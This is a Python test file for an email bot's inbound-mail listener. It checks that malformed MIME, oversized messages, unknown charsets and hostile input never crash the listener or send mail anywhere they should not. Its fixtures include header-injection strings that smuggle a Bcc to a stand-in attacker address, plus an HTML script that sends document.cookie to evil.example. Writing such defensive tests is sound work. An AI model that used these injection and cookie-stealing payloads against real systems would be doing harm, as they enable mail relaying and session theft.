"""Bad mail: nothing crashes, everything is logged, and nothing goes out that should not."""
import smtplib
from email import policy

import pytest

from tests.support.mail import BOT_ADDRESS, client_message

AFTER_END = "Hi, can you just take a quick look at our firewall rules? It keeps dropping the VPN."
DANA = "dana@globex.example"
EVIL = "victim@evil.example"


def raw_mail(headers: str, body: bytes = b"") -> bytes:
    return headers.replace("\n", "\r\n").encode() + b"\r\n" + body


def still_answering(mail) -> None:
    """After bad input the listener still answers the next good message."""
    before = len(mail.replies())
    mail.write(DANA, "Firewall again", AFTER_END)
    assert len(mail.replies()) == before + 1


@pytest.mark.parametrize("raw", [
    raw_mail("From: dana@globex.example\nMessage-ID: <m1@globex.example>\nSubject: Firewall\n"
             "Content-Type: multipart/mixed\n", b"no boundary at all\r\n" + AFTER_END.encode() + b"\r\n"),
    raw_mail("From: dana@globex.example\nMessage-ID: <m2@globex.example>\nSubject: Firewall\n"
             'Content-Type: multipart/alternative; boundary="never-used"\n', AFTER_END.encode() + b"\r\n"),
    raw_mail("From: dana@globex.example\nMessage-ID: <m3@globex.example>\nSubject: Firewall\n"
             "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n", b"!!!not*base64@@@\r\n"),
], ids=["no-boundary", "boundary-never-found", "broken-base64"])
def test_malformed_mime_goes_to_a_person_and_is_logged(mail, raw):
    mail.deliver(raw, envelope_from=DANA)
    assert mail.replies() == []
    [told] = mail.staff_mail()
    assert "A person needs to answer" in told.message["Subject"]
    [row] = mail.logged()
    assert row["action"] == "handoff" and row["error"].startswith("not answered:")
    still_answering(mail)


def test_bytes_that_are_not_mail_at_all_do_not_crash_the_listener(mail):
    mail.deliver(b"\x00\xff\xfe garbage \x80\x81\r\n\r\n\xff" * 50, envelope_from=DANA)
    mail.deliver(b"Subject: only a subject\r\n\r\n", envelope_from=DANA)
    assert mail.replies() == []
    assert len(mail.logged()) == 2
    still_answering(mail)


def test_a_25_mb_message_is_refused_before_it_is_read_and_logged(mail):
    big = client_message(DANA, "Firewall", AFTER_END)
    big.add_attachment(b"x" * (25 * 1024 * 1024), maintype="application", subtype="octet-stream", filename="dump.bin")
    raw = big.as_bytes(policy=policy.SMTP)
    with pytest.raises(smtplib.SMTPSenderRefused) as refused:   # SIZE is announced: refused at MAIL FROM
        mail.deliver(raw)
    assert refused.value.smtp_code == 552
    with smtplib.SMTP("127.0.0.1", mail.listener.port, timeout=60) as smtp:   # a server that ignores SIZE
        smtp.ehlo()
        smtp.mail(DANA)
        smtp.rcpt(BOT_ADDRESS)
        code, _ = smtp.data(raw)
    assert code == 552
    assert mail.replies() == []
    rows = mail.logged()
    assert [row["action"] for row in rows] == ["handoff", "handoff"]
    assert all("too large" in row["error"] for row in rows) and rows[1]["sender_id"] == DANA
    assert len(mail.staff_mail()) == 2
    still_answering(mail)


def test_the_size_limit_holds_on_any_inbound_path(mail):
    outcome = mail.adapter.receive(b"X" * (mail.bot.config.email_max_bytes + 1), DANA)
    assert outcome.action == "refused"
    assert mail.replies() == []


def test_an_unknown_charset_goes_to_a_person(mail):
    raw = raw_mail("From: dana@globex.example\nMessage-ID: <cs@globex.example>\nSubject: Firewall\n"
                   'Content-Type: text/plain; charset="x-klingon-9"\n', AFTER_END.encode() + b"\r\n")
    mail.deliver(raw, envelope_from=DANA)
    assert mail.replies() == []
    assert "character set" in mail.staff_mail()[0].text
    assert "x-klingon-9" in mail.logged()[0]["error"]


def test_a_known_charset_is_decoded(mail):
    body = "Bonjour, pouvez-vous jeter un œil rapide à notre pare-feu ? Can you take a quick look at our firewall?"
    raw = raw_mail("From: dana@globex.example\nMessage-ID: <l1@globex.example>\nSubject: Pare-feu\n"
                   'Content-Type: text/plain; charset="iso-8859-15"\nContent-Transfer-Encoding: 8bit\n',
                   body.encode("iso-8859-15") + b"\r\n")
    mail.deliver(raw, envelope_from=DANA)
    assert mail.logged()[0]["text"] == body


def test_a_header_injection_in_the_subject_reaches_nobody_else(mail):
    raw = raw_mail("From: Dana <dana@globex.example>\nMessage-ID: <inj1@globex.example>\n"
                   f"Subject: =?utf-8?q?Firewall=0D=0ABcc:_{EVIL}=0D=0A=0D=0Ainjected_body?=\n"
                   "Content-Type: text/plain\n", AFTER_END.encode() + b"\r\n")
    mail.deliver(raw, envelope_from=DANA)
    [reply] = mail.replies()
    assert reply.rcpt_tos == [DANA]
    assert reply.message["Bcc"] is None and "\n" not in reply.message["Subject"]
    assert reply.message["Subject"].startswith("Re: Firewall Bcc:")
    assert b"\r\n\r\ninjected" not in reply.raw.split(b"\r\n\r\n", 1)[0]
    assert mail.relay.to(EVIL) == []


def test_a_header_injection_in_the_sender_name_reaches_nobody_else(mail):
    raw = raw_mail(f"From: =?utf-8?q?Dana=0D=0ABcc:_{EVIL}?= <dana@globex.example>\nMessage-ID: <inj2@globex.example>\n"
                   "Subject: Firewall\nContent-Type: text/plain\n", AFTER_END.encode() + b"\r\n")
    mail.deliver(raw, envelope_from=DANA)
    assert mail.replies() == [] and mail.relay.to(EVIL) == []   # the stdlib will not read such a From: a person does
    assert "could not be read" in mail.staff_mail()[0].text


@pytest.mark.parametrize("sender", [
    f"dana@globex.example, {EVIL}",
    f"dana@globex.example\n Bcc: {EVIL}",
    f'"dana@globex.example\\r\\nBcc: {EVIL}"@globex.example',
    "dana@globex.example <script>@x",
])
def test_an_address_that_is_not_one_plain_address_is_not_answered(mail, sender):
    raw = raw_mail(f"From: {sender}\nMessage-ID: <inj3@globex.example>\nSubject: Firewall\n"
                   "Content-Type: text/plain\n", AFTER_END.encode() + b"\r\n")
    mail.deliver(raw, envelope_from=DANA)
    assert mail.replies() == [] and mail.relay.to(EVIL) == []
    assert len(mail.staff_mail()) == 1
    assert mail.logged()[0]["action"] == "handoff"


def test_html_with_scripts_never_reaches_staff_or_the_log_as_markup(mail):
    html = ("<p>Hello</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
            "<img src=x onerror=alert(1)><p>can you just take a quick look at our firewall rules?</p>")
    message = client_message(DANA, "<script>alert(1)</script>", "x")
    message.set_content(html, subtype="html")
    mail.deliver(message)
    row = mail.logged()[0]
    assert "fetch" not in row["text"] and "onerror" not in row["text"] and "<" not in row["text"]
    for caught in mail.relay.caught:
        assert "document.cookie" not in caught.text and "onerror" not in caught.text
